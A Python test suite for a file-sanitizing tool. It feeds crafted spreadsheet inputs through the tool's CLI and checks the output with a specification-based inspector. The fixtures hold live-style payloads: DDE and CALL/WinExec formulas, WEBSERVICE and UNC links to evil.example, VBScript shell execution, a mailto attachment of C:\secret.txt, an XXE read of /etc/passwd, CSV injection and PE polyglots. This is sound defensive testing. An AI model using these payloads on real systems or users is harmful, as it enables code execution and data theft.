"""An outsider's attacks on the spreadsheet paths: an HTML table or Excel's XML Spreadsheet
2003 under an Excel name (converted by LibreOffice, then rebuilt as XLSX), CSV or text under
an Excel name (released as .csv), and polyglots meant to be taken as one type by the name
and another by the content. Every file goes through the real CLI, as an operator runs it.

The released files are judged by an inspector written here from the formats' specifications,
not from cdr's code: it accepts only the parts, elements, relationships and formulas it knows
to be harmless, so something nobody planted fails it too. The benign content (Japanese text,
numbers) must survive.
"""

from __future__ import annotations

import csv
import io
import json
import os
import posixpath
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

ROOT = Path(__file__).resolve().parent.parent
BENIGN_ROWS = "<tr><td>品名</td><td>数量</td></tr><tr><td>りんご</td><td>12</td></tr>"
EVIL_PE = b"MZ\x90\x00" + b"\0" * 56 + b"PE\0\0" + b"\0" * 64


# ----------------------------------------------------------------------------- the attacks
def html_table(rows: str, head: str = "", attrs: str = "") -> bytes:
    return (
        f'<html{attrs}><head><meta charset="utf-8">{head}</head><body><table>{BENIGN_ROWS}{rows}'
        "</table></body></html>"
    ).encode()


HTML_ACTIVE = html_table(
    '<tr><td><a href="javascript:alert(3)">click</a></td><td onclick="alert(4)">x</td></tr>'
    '<tr><td><a href="file://///evil.example/share/x.exe">unc</a></td><td><a href="http://ok.example/">ok</a></td></tr>'
    '<tr><td><img src="http://evil.example/p.png"></td><td><iframe src="http://evil.example/"></iframe></td></tr>'
    '<tr><td><object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e"></td>'
    '<td><form action="http://evil.example/post"><input name=a value=b></form></td></tr>',
    head='<meta http-equiv="refresh" content="0;url=http://evil.example/x">'
    '<link rel="stylesheet" href="http://evil.example/s.css"><script>alert(1)</script>',
)
# Excel's own "Web page" export: x: formulas, a workbook definition in a conditional comment
HTML_EXCEL_FORMULAS = html_table(
    '<tr><td x:fmla="=WEBSERVICE(&quot;http://evil.example/&quot;)">w</td><td x:fmla="=SUM(B2:B2)">12</td></tr>'
    "<tr><td>=cmd|'/C calc'!A0</td><td>=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</td></tr>"
    "<tr><td>='\\\\evil.example\\share\\[book.xls]Sheet1'!A1</td><td>=WEBSERVICE(\"http://evil.example/\")</td></tr>"
    "<tr><td>=SUM(B2:B2)</td><td>=HYPERLINK(\"http://ok.example/\",\"web\")</td></tr>",
    head="<!--[if gte mso 9]><xml><x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet><x:Name>S</x:Name>"
    '<x:WorksheetSource HRef="\\\\evil.example\\share\\sheet.htm"/></x:ExcelWorksheet></x:ExcelWorksheets>'
    "<x:SupBook><x:Path>\\\\evil.example\\share\\book.xls</x:Path></x:SupBook>"
    "</x:ExcelWorkbook></xml><![endif]-->",
    attrs=' xmlns:x="urn:schemas-microsoft-com:office:excel"',
)
# HYPERLINK whose target is built when clicked: a cell holding a share, CHAR(92), pieces
HTML_COMPUTED_LINKS = html_table(
    '<tr><td>\\\\evil.example\\share\\x.exe</td><td>=HYPERLINK(A3,"請求書")</td></tr>'
    "<tr><td>file://///evil.example/share/x.exe</td><td>=HYPERLINK(A4)</td></tr>"
    '<tr><td>b</td><td>=HYPERLINK("\\"&amp;"\\evil.example\\share\\x.exe","b")</td></tr>'
    '<tr><td>d</td><td>=HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;"evil.example\\share\\x.exe","d")</td></tr>'
    '<tr><td>l</td><td>=HYPERLINK(INDIRECT("A3"),"l")</td></tr>'
)
XML_SPREADSHEET = b"""<?xml version="1.0" encoding="UTF-8"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:x="urn:schemas-microsoft-com:office:excel"
 xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
 <ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel">
  <SupBook><Path>\\\\evil.example\\share\\book.xls</Path><SheetName>Sheet1</SheetName></SupBook>
 </ExcelWorkbook>
 <Names>
  <NamedRange ss:Name="Auto_Open" ss:RefersTo="=cmd|'/C calc'!A0"/>
  <NamedRange ss:Name="ext" ss:RefersTo="='\\\\evil.example\\share\\[book.xls]Sheet1'!R1C1"/>
 </Names>
 <Worksheet ss:Name="\xe3\x82\xb7\xe3\x83\xbc\xe3\x83\x881">
  <Table>
   <Row><Cell><Data ss:Type="String">\xe5\x93\x81\xe5\x90\x8d</Data></Cell><Cell><Data ss:Type="String">\xe6\x95\xb0\xe9\x87\x8f</Data></Cell></Row>
   <Row><Cell><Data ss:Type="String">\xe3\x82\x8a\xe3\x82\x93\xe3\x81\x94</Data></Cell><Cell><Data ss:Type="Number">12</Data></Cell></Row>
   <Row><Cell ss:Formula="=cmd|'/C calc'!A0"><Data ss:Type="Number">0</Data></Cell>
        <Cell ss:HRef="file://///evil.example/share/x.exe"><Data ss:Type="String">unc</Data></Cell></Row>
   <Row><Cell ss:Formula="='\\\\evil.example\\share\\[book.xls]Sheet1'!R1C1"><Data ss:Type="Number">1</Data></Cell>
        <Cell ss:Formula="=WEBSERVICE(&quot;http://evil.example/&quot;)"><Data ss:Type="String">w</Data></Cell></Row>
   <Row><Cell ss:Formula="=CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)"><Data ss:Type="Number">0</Data></Cell>
        <Cell ss:Formula="=SUM(R[-3]C:R[-3]C)"><Data ss:Type="Number">12</Data></Cell></Row>
   <Row><Cell ss:Formula="=HYPERLINK(R[-4]C[1])"><Data ss:Type="String">h</Data></Cell></Row>
  </Table>
  <WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Selected/></WorksheetOptions>
  <DataValidation xmlns="urn:schemas-microsoft-com:office:excel">
   <Range>R1C1:R3C1</Range><Type>List</Type><Value>WEBSERVICE(&quot;http://evil.example/&quot;)</Value>
  </DataValidation>
  <ConditionalFormatting xmlns="urn:schemas-microsoft-com:office:excel">
   <Range>R1C2</Range><Condition><Qualifier>Equal</Qualifier><Value1>cmd|'/C calc'!A0</Value1></Condition>
  </ConditionalFormatting>
 </Worksheet>
</Workbook>
"""
HTML_OBJECTS = (
    b'<html><body><table><tr><td>\xe5\x93\x81\xe5\x90\x8d</td></tr></table><object classid="clsid:0002E559-0000-'
    b'0000-C000-000000000046"><param name="DataURL" value="http://evil.example/x"></object>'
    b"<HTA:APPLICATION ID=x></HTA:APPLICATION><script language=VBScript>CreateObject(\"WScript.Shell\")"
    b'.Run "calc"</script></body></html>'
)
# a picture of the appliance's own file system (the converter's sandbox sees /usr and the
# venv): LibreOffice's HTML import fetched it into the released workbook
LOCAL_PICTURE = next(Path(sys.prefix).rglob("*.png"), None) or next(Path("/usr/share").rglob("*.png"), None)
HTML_LOCAL_PICTURES = html_table(f'<tr><td><img src="file://{LOCAL_PICTURE}"></td><td><img src="{LOCAL_PICTURE}"></td></tr>')

# links LibreOffice or Windows would act on: a Basic macro, a share, a mail with an
# attachment, Office's "open for editing" and Explorer's search over a share
HTML_SCHEMES = html_table(
    '<tr><td><a href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application">m</a></td>'
    '<td><a href="macro:///Standard.Module1.Main">m2</a></td></tr>'
    '<tr><td><a href="\\\\evil.example\\share\\x.exe">unc</a></td>'
    '<td><a href="mailto:a@evil.example?attach=C:\\secret.txt">mail</a></td></tr>'
    '<tr><td><a href="ms-excel:ofe|u|http://evil.example/x.xlsm">ofe</a></td>'
    '<td><a href="search-ms:query=x&amp;crumb=location:\\\\evil.example\\s">s</a></td></tr>'
    '<tr><td><a href="#Sheet1.A1">in</a></td><td><a href="https://www.city.example.lg.jp/">市</a></td></tr>'
)

# LibreOffice attacks: name → (bytes, the released name)
CONVERTED = {
    "active.xls": (HTML_ACTIVE, "active.xlsx"),
    "excel_web.xls": (HTML_EXCEL_FORMULAS, "excel_web.xlsx"),
    "computed_links.xlsx": (HTML_COMPUTED_LINKS, "computed_links.xlsx"),
    "ss2003.xls": (XML_SPREADSHEET, "ss2003.xlsx"),
    "objects.xls": (HTML_OBJECTS, "objects.xlsx"),
    "pictures.xls": (HTML_LOCAL_PICTURES, "pictures.xlsx"),
    "schemes.xls": (HTML_SCHEMES, "schemes.xlsx"),
}

CSV_ROWS = (
    "品名,数量,備考\r\nりんご,12,ok\r\n"
    "=cmd|'/C calc'!A0,\"=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\",+1+2\r\n"
    "\"  =1+1\",\"\t=2+2\",@SUM(A1)\r\n"
    "-2+3+cmd|'/C calc'!A0,＝1+1,＠SUM(1)\r\n"
    "\"\r=1+1\",\u3000=1,＋3\r\n"
    "-1200,\"a\"\"b\",x\r\n"
)
# text attacks (no LibreOffice): name → (bytes, released name or None for quarantined, reason)
TEXT_ATTACKS: dict[str, tuple[bytes, str | None, str | None]] = {
    "list.xlsx": (CSV_ROWS.encode(), "list.csv", None),
    "list_sjis.xls": (CSV_ROWS.encode("cp932"), "list_sjis.csv", None),
    "plain.csv": (CSV_ROWS.encode(), "plain.csv", None),
    "sep.xlsx": ("sep=;\r\n品名;数量\r\nりんご;12\r\n=cmd|'/C calc'!A0;x\r\n".encode(), "sep.csv", None),
    "unicode.xlsx": (
        b"\xff\xfe" + "品名\t数量\r\nりんご\t12\r\n=cmd|'/C calc'!A0\t@SUM(1)\r\n".encode("utf-16-le"),
        "unicode.csv",
        None,
    ),
    # SYLK: Excel takes any text starting with "ID" for one; its C records hold formulas.
    # libmagic names "ID;P…" a SYLK file (held), not these
    "sylk.xlsx": (b"ID;N;E\r\nC;Y1;X1;K\"\xe3\x82\x8a\xe3\x82\x93\xe3\x81\x94\"\r\nC;Y2;X1;K0;ECMD|'/C calc'!A0\r\nE\r\n",
                  "sylk.csv", None),
    "ids.csv": ("ID,品名,数量\r\n1,りんご,12\r\n".encode(), "ids.csv", None),
    "sylk_p.csv": (b"ID;PWXL;N;E\r\nC;Y1;X1;K0;ECMD|'/C calc'!A0\r\nE\r\n", None, "extension-mismatch"),
    # polyglots
    "html_zip.xls": (html_table("") + b"PK\x03\x04" + b"\0" * 26 + b"evil.exe", None, "extension-mismatch"),
    "bom_mz.xls": (b"\xef\xbb\xbf" + EVIL_PE + html_table(""), None, "extension-mismatch"),
    "bom_html_mz.xls": (b"\xef\xbb\xbf" + html_table("") + EVIL_PE, None, "extension-mismatch"),
    "xdwf_pe.xdw": (b"XDWF" + b"\0" * 12 + EVIL_PE, None, "unsupported-type"),
    "xdwf_pe.pdf": (b"XDWF" + b"\0" * 12 + EVIL_PE, None, "extension-mismatch"),
    "svg.xls": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', None, "extension-mismatch"),
    "xxe.xls": (
        b'<?xml version="1.0"?><!DOCTYPE Workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Data>&x;</Data></Workbook>',
        "xxe.csv",  # not a spreadsheet (it has a DOCTYPE): text under an Excel name, its entity unread
        None,
    ),
}


# ----------------------------------------------------------------------------- the CLI
def sanitize(tmp_path: Path, files: dict[str, bytes]) -> dict[str, dict[str, object]]:
    """Run ``cdr sanitize --json`` over the files; one result line per input, by name."""
    inbox = tmp_path / "in"
    inbox.mkdir()
    for name, data in files.items():
        (inbox / name).write_bytes(data)
    run = subprocess.run(
        [sys.executable, str(ROOT / "cli.py"), "sanitize", str(inbox), "--out", str(tmp_path / "out"),
         "--quarantine", str(tmp_path / "q"), "--audit", str(tmp_path / "audit.jsonl"),
         "--spool", str(tmp_path / "spool"), "--json"],
        capture_output=True, text=True, timeout=300, env={**os.environ, "CDR_CONFIG": "/dev/null"},
    )
    assert "Traceback" not in run.stderr, run.stderr
    assert run.returncode in (0, 1), run.stderr
    results = [json.loads(line) for line in run.stdout.splitlines()]
    assert len(results) == len(files), run.stdout
    return {Path(str(r["input"])).name: r for r in results}


# ----------------------------------------------------------------------------- the inspector
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_ID = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
XML_SPACE = "{http://www.w3.org/XML/1998/namespace}space"
_DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
# the only relationships a table needs; a hyperlink is the only external one
RELATIONSHIP_TYPES = {
    _DOC_RELS + "officeDocument", _PKG_RELS + "core-properties", _DOC_RELS + "extended-properties",
    _DOC_RELS + "custom-properties", _DOC_RELS + "worksheet", _DOC_RELS + "styles",
    _DOC_RELS + "sharedStrings", _DOC_RELS + "theme", _DOC_RELS + "hyperlink", _DOC_RELS + "drawing",
}
PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(?:app|core|custom)\.xml|xl/(?:workbook|styles|sharedStrings)\.xml"
    r"|xl/_rels/workbook\.xml\.rels|xl/theme/theme\d+\.xml|xl/worksheets/sheet\d+\.xml"
    r"|xl/worksheets/_rels/sheet\d+\.xml\.rels|xl/drawings/drawing\d+\.xml"
)
# ECMA-376 Part 1 §18: presentation of cells, values, formulas judged below, page set-up
SHEET_ELEMENTS = set(
    """worksheet sheetPr tabColor outlinePr pageSetUpPr dimension sheetViews sheetView pane selection
    sheetFormatPr cols col sheetData row c v f is t r rPr rFont b i u strike sz color family charset scheme vertAlign
    mergeCells mergeCell hyperlinks hyperlink printOptions pageMargins pageSetup headerFooter oddHeader
    oddFooter evenHeader evenFooter firstHeader firstFooter conditionalFormatting cfRule formula dataValidations
    dataValidation formula1 formula2 rowBreaks colBreaks brk sheetProtection autoFilter drawing""".split()
)
# a picture frame with no picture in it: where it sits, its name, its shape (§20.5, §20.1);
# a blip that embeds or links a picture carries r:embed / r:link, which no element may here
DRAWING_ELEMENTS = {
    ("http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing", name)
    for name in """wsDr twoCellAnchor oneCellAnchor absoluteAnchor from to col colOff row rowOff pos ext pic
    nvPicPr cNvPr cNvPicPr blipFill spPr clientData""".split()
} | {
    ("http://schemas.openxmlformats.org/drawingml/2006/main", name)
    for name in "blip stretch fillRect srcRect xfrm off ext prstGeom avLst ln noFill picLocks".split()
}
WORKBOOK_ELEMENTS = set(
    """workbook fileVersion workbookPr workbookProtection bookViews workbookView sheets sheet definedNames
    definedName calcPr extLst ext""".split()
)
STRINGS_ELEMENTS = set("sst si t r rPr rFont b i u strike sz color family charset scheme vertAlign phoneticPr rPh".split())
STYLES_ELEMENTS = set(
    """styleSheet numFmts numFmt fonts font b i u strike sz color name family charset scheme vertAlign outline
    shadow condense extend fills fill patternFill fgColor bgColor gradientFill stop borders border left right
    top bottom diagonal vertical horizontal start end cellStyleXfs xf alignment protection cellXfs cellStyles
    cellStyle dxfs dxf colors indexedColors rgbColor mruColors tableStyles""".split()
)
FORMULA_ELEMENTS = {"f", "formula", "formula1", "formula2", "definedName"}
# functions that compute from the book itself; anything else (a link, a call, a web query,
# a DDE channel) is not accepted here
HARMLESS_FUNCTIONS = {"SUM", "AVERAGE", "COUNT", "COUNTA", "MIN", "MAX", "IF", "ROUND", "AND", "OR", "NOT", "TRUE", "FALSE"}
WEB_TARGET = re.compile(r"(?:https?://[A-Za-z0-9][^\s\"\\]*|mailto:[^\s\"\\?]+)")


def formula_problem(formula: str, sheets: set[str]) -> str | None:
    """None for a formula of references, numbers, operators and harmless functions; a
    HYPERLINK is accepted only as one literal web or mail address (the policy's hyperlinks)."""
    hyperlink = re.fullmatch(r'\s*HYPERLINK\(\s*"([^"]*)"\s*(?:,\s*"[^"\\|]*"\s*)?\)\s*', formula)
    if hyperlink:
        return None if WEB_TARGET.fullmatch(hyperlink.group(1)) else f"HYPERLINK to {hyperlink.group(1)!r}"
    body = re.sub(r'"[^"\\|]*"', '""', formula)  # a literal without a path or a pipe is inert text
    for sheet in sheets:
        body = body.replace(f"'{sheet}'!", "").replace(f"{sheet}!", "")
    for name in re.findall(r"([A-Za-z_][A-Za-z0-9_.]*)\s*\(", body):
        if name.upper() not in HARMLESS_FUNCTIONS:
            return f"function {name}"
    rest = re.sub(r"[A-Za-z_][A-Za-z0-9_.]*\s*\(", "(", body)
    if not re.fullmatch(r"[A-Z$0-9:,.+\-*/^&=<>()% \"]*", rest):
        return f"formula {formula!r}"
    return None


def _xml(data: bytes) -> etree._Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    root = etree.fromstring(data, parser)
    assert root.getroottree().docinfo.doctype == "", "a DOCTYPE in a released part"
    return root


def _markup(part: str, root: etree._Element, allowed: set[str], sheets: set[str]) -> list[str]:
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            if isinstance(element, etree._ProcessingInstruction):
                problems.append(f"{part}: processing instruction")
            continue
        qname = etree.QName(element)
        if (qname.namespace, qname.localname) not in DRAWING_ELEMENTS and (
            qname.namespace != MAIN or qname.localname not in allowed
        ):
            problems.append(f"{part}: element {element.tag}")
            continue
        if qname.localname == "ext" and len(element):
            problems.append(f"{part}: extension with content")
        for attribute in element.attrib:
            if attribute.startswith("{") and attribute != XML_SPACE:
                if not (attribute == R_ID and qname.localname in ("sheet", "hyperlink", "drawing")):
                    problems.append(f"{part}: attribute {attribute} on {qname.localname}")
        if qname.localname in FORMULA_ELEMENTS and element.text:
            problem = formula_problem(element.text, sheets)
            if problem:
                problems.append(f"{part}: {problem}")
        if qname.localname == "definedName" and re.match(r"(_xlnm\.)?auto_", element.get("name", ""), re.I):
            problems.append(f"{part}: macro name {element.get('name')}")
    return problems


def _relationships(part: str, root: etree._Element, names: set[str]) -> list[str]:
    problems = []
    base = posixpath.dirname(part.replace("_rels/", "").removesuffix(".rels"))  # the part they belong to
    for rel in root:
        if etree.QName(rel).namespace != RELS or etree.QName(rel).localname != "Relationship":
            problems.append(f"{part}: {rel.tag}")
            continue
        kind, target = rel.get("Type", ""), rel.get("Target", "")
        if kind not in RELATIONSHIP_TYPES:
            problems.append(f"{part}: relationship {kind}")
        elif rel.get("TargetMode") == "External":
            if kind != _DOC_RELS + "hyperlink" or not WEB_TARGET.fullmatch(target):
                problems.append(f"{part}: external {kind} to {target!r}")
        elif kind == _DOC_RELS + "hyperlink":
            problems.append(f"{part}: internal hyperlink relationship to {target!r}")
        else:
            path = target.lstrip("/") if target.startswith("/") else posixpath.normpath(posixpath.join(base, target))
            if path not in names:
                problems.append(f"{part}: relationship to a missing part {target!r}")
    return problems


def inspect_xlsx(path: Path) -> list[str]:
    """Every problem found in a released workbook; an empty list only when everything in it
    is something known to be harmless."""
    problems: list[str] = []
    with zipfile.ZipFile(path) as package:
        names = set(package.namelist())
        workbook = _xml(package.read("xl/workbook.xml"))
        sheets = {s.get("name", "") for s in workbook.iter(f"{{{MAIN}}}sheet")}
        for part in sorted(names):
            if not PARTS.fullmatch(part):
                problems.append(f"part {part}")
                continue
            root = _xml(package.read(part))
            if part.endswith(".rels"):
                problems += _relationships(part, root, names)
            elif part.startswith(("xl/worksheets/", "xl/drawings/")):
                problems += _markup(part, root, SHEET_ELEMENTS, sheets)
            elif part == "xl/workbook.xml":
                problems += _markup(part, root, WORKBOOK_ELEMENTS, sheets)
            elif part == "xl/sharedStrings.xml":
                problems += _markup(part, root, STRINGS_ELEMENTS, sheets)
            elif part == "xl/styles.xml":
                problems += _markup(part, root, STYLES_ELEMENTS, sheets)
            elif part == "[Content_Types].xml":
                problems += [f"content type {t}" for t in root.xpath("//@ContentType") if "macro" in t.lower()]
    openpyxl.load_workbook(path).close()  # Excel's reader of choice in Python opens it
    return problems


def live_csv_cells(text: str, delimiter: str = ",") -> list[str]:
    """Cells Excel would evaluate when it opens the file: a .csv is split on comma, its
    UTF-16 "Unicode text" on tab. A full-width number (＋3) is still only a number."""
    live = []
    if re.match(r"\ufeff?\s*sep\s*=", text, re.I):
        live.append("sep= line")
    if text.startswith("ID"):
        live.append("ID: Excel reads the file as SYLK, whose records carry formulas")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            first = cell.lstrip(" \u3000")[:1]
            number = re.fullmatch(r"[+-]?[\d,]+(\.\d+)?", unicodedata.normalize("NFKC", cell).strip())
            if (first in set("=+-@＝＋－＠") or cell[:1] in ("\t", "\r")) and not number:
                live.append(cell)
    return live


def csv_text(data: bytes) -> str:
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        return data.decode("utf-16")
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError:
        return data.decode("cp932")


def shared_strings_and_numbers(path: Path) -> tuple[list[str], list[float]]:
    with zipfile.ZipFile(path) as package:
        sheet = _xml(package.read("xl/worksheets/sheet1.xml"))
        strings = []
        if "xl/sharedStrings.xml" in package.namelist():
            strings = ["".join(si.itertext()) for si in _xml(package.read("xl/sharedStrings.xml"))]
    numbers = [float(v.text) for c in sheet.iter(f"{{{MAIN}}}c") if c.get("t", "n") == "n"
               for v in c.iter(f"{{{MAIN}}}v")]
    return strings, numbers


# ----------------------------------------------------------------------------- the tests
def test_the_inspector_refuses_what_it_does_not_know() -> None:
    """The inspector is the judge: it must fail a computed link, a DDE call and an unknown function."""
    assert formula_problem("SUM(B2:B2)", {"Sheet1"}) is None
    assert formula_problem('HYPERLINK("http://ok.example/","web")', set()) is None
    assert formula_problem('HYPERLINK(A3,"請求書")', set()) is not None
    assert formula_problem("cmd|'/C calc'!A0", set()) is not None
    assert formula_problem('WEBSERVICE("http://evil.example/")', set()) is not None
    assert live_csv_cells("a,b\r\nok\t=1+1\r\n", "\t") == ["=1+1"]
    assert live_csv_cells("a,b\r\n+1,＋3,＠x\r\n") == ["＠x"]
    assert live_csv_cells("'=1,-1200\r\n") == []


def test_a_link_built_when_clicked_loses_its_formula_on_both_sides() -> None:
    """HYPERLINK(A3) where A3 holds ``\\\\host\\share\\x.exe``, or a target joined from
    CHAR(92) and pieces, was kept by the rebuild and passed the verifier; a single literal
    web address or a place in the book still stays."""
    from cdr.sanitizers.ooxml_fields import formula_problem as rebuild_problem
    from cdr.verifiers.ooxml_grammar import formula_problem as verifier_problem

    computed = ['HYPERLINK(A3,"請求書")', 'HYPERLINK("\\"&"\\evil.example\\share\\x.exe","b")',
                'HYPERLINK(CHAR(92)&CHAR(92)&"evil.example\\share\\x.exe")', 'HYPERLINK(INDIRECT("A3"))',
                'HYPERLINK("http://ok.example/"&A1)', 'LAMBDA(x,HYPERLINK(x))(A1)']
    for formula in computed:
        assert rebuild_problem(formula) == "external-reference", formula
        assert verifier_problem(formula) == "HYPERLINK target not one literal web, mail or in-book address", formula
    for formula in ['HYPERLINK("http://ok.example/?q=(1,2)" , "web")', 'HYPERLINK("#Sheet1!A1","jump")',
                    'IF(A1>0,HYPERLINK("mailto:kikaku@city.example.lg.jp"),"")']:
        assert rebuild_problem(formula) is None and verifier_problem(formula) is None, formula


def test_csv_under_excel_names_and_polyglots(tmp_path: Path) -> None:
    results = sanitize(tmp_path, {name: data for name, (data, _, _) in TEXT_ATTACKS.items()})
    for name, (_, released, reason) in TEXT_ATTACKS.items():
        result = results[name]
        if released is None:
            assert result["verdict"] == "quarantined", (name, result)
            assert reason is None or result["reason"] == reason, (name, result["reason"])
            continue
        assert result["verdict"] == "released", (name, result)
        output = Path(str(result["output"]))
        assert output.name == released
        data = output.read_bytes()
        text, delimiter = csv_text(data), "\t" if data.startswith(b"\xff\xfe") else ","
        assert live_csv_cells(text, delimiter) == [], (name, live_csv_cells(text, delimiter))
        if "品名".encode() in TEXT_ATTACKS[name][0] or name == "list_sjis.xls":
            assert "りんご" in text and "品名" in text and "12" in text, name
    xxe = csv_text((tmp_path / "out" / "xxe.csv").read_bytes())
    assert "<!ENTITY x SYSTEM" in xxe and "root:" not in xxe and "<Data>&x;</Data>" in xxe  # read as text
    rows = list(csv.reader(io.StringIO(csv_text((tmp_path / "out" / "list.csv").read_bytes()), newline="")))
    assert rows[2] == ["'=cmd|'/C calc'!A0", "'=HYPERLINK(\"http://evil.example/\",\"x\")", "'+1+2"]
    assert rows[6] == ["-1200", 'a"b', "x"]  # a plain number and quoting are left as they were
    # UTF-8 with a BOM: Excel on a Japanese Windows reads a BOM-less CSV as CP932 (excel_reads_alike)
    assert (tmp_path / "out" / "ids.csv").read_bytes() == '\ufeff"ID",品名,数量\r\n1,りんご,12\r\n'.encode()
    assert (tmp_path / "out" / "sylk.csv").read_bytes().startswith(b'\xef\xbb\xbf"ID;N;E"\r\n"C;Y1;X1;K""')
    released = {p.suffix for p in (tmp_path / "out").iterdir() if not p.name.endswith(".quarantined.txt")}
    assert released == {".csv"}, "text never crosses under an Excel name"


def ichitaro_marked_xls_with_macros(work: Path) -> bytes:
    """A real .xls with a VBA project (LibreOffice's own export of xlwings' quickstart) whose
    summary stream is renamed JSRV_SegmentInfo: an OLE file that looks like 一太郎 to a
    detector that reads the streams, but is Excel's and carries macros."""
    from tests import office_builders as ob

    source = work / "macro.xlsm"
    source.write_bytes(ob.xlwings_file("quickstart.xlsm"))
    data = bytearray(ob.libreoffice(work, source, "xls:MS Excel 97").read_bytes())
    entry = data.find("\x05SummaryInformation".encode("utf-16-le"))  # a directory entry's name
    assert entry > 0
    name = "JSRV_SegmentInfo".encode("utf-16-le") + b"\0\0"
    data[entry : entry + 66] = name.ljust(64, b"\0") + len(name).to_bytes(2, "little")
    return bytes(data)


@pytest.mark.slow  # LibreOffice: one CLI run converts all eight
def test_html_and_xml_spreadsheets_cross_only_as_harmless_workbooks(tmp_path: Path) -> None:
    assert LOCAL_PICTURE is not None, "no picture on this machine to link to"
    (tmp_path / "build").mkdir()
    polyglot = ichitaro_marked_xls_with_macros(tmp_path / "build")
    files = {name: data for name, (data, _) in CONVERTED.items()}
    results = sanitize(tmp_path, {**files, "jsrv_macro.xls": polyglot, "jsrv_macro.jtd": polyglot})
    assert results["jsrv_macro.jtd"]["reason"] == "extension-mismatch"  # 一太郎's name, Excel's content
    macro_free = Path(str(results["jsrv_macro.xls"]["output"]))
    assert results["jsrv_macro.xls"]["type"] == "xls" and macro_free.name == "jsrv_macro.xlsx"
    assert any(a["what"] == "vba-macros" and a["action"] == "removed" for a in results["jsrv_macro.xls"]["actions"])
    assert inspect_xlsx(macro_free) == []
    for name, (_, released) in CONVERTED.items():
        result = results[name]
        assert result["verdict"] == "released", (name, result)
        output = Path(str(result["output"]))
        assert output.name == released
        assert inspect_xlsx(output) == [], name
    for name in ("active.xls", "excel_web.xls", "computed_links.xlsx", "ss2003.xls", "pictures.xls"):
        strings, numbers = shared_strings_and_numbers(tmp_path / "out" / CONVERTED[name][1])
        assert {"品名", "数量", "りんご"} <= set(strings) and 12.0 in numbers, (name, strings, numbers)
    links = tmp_path / "out" / "computed_links.xlsx"
    with zipfile.ZipFile(links) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" not in sheet  # every target there is computed: each formula went
    assert "請求書" in sheet or "請求書" in shared_strings_and_numbers(links)[0]  # its cached value stays
    with zipfile.ZipFile(tmp_path / "out" / "excel_web.xlsx") as package:
        web = package.read("xl/worksheets/sheet1.xml").decode()
    assert 'HYPERLINK("http://ok.example/","web")' in web  # a plain web link is the policy's to keep
    with zipfile.ZipFile(tmp_path / "out" / "schemes.xlsx") as package:
        rels = package.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert re.findall(r'Target="([^"]*)"', rels) == ["https://www.city.example.lg.jp/"]
    assert 'location="Sheet1!A1"' in sheet  # the jump inside the book stays
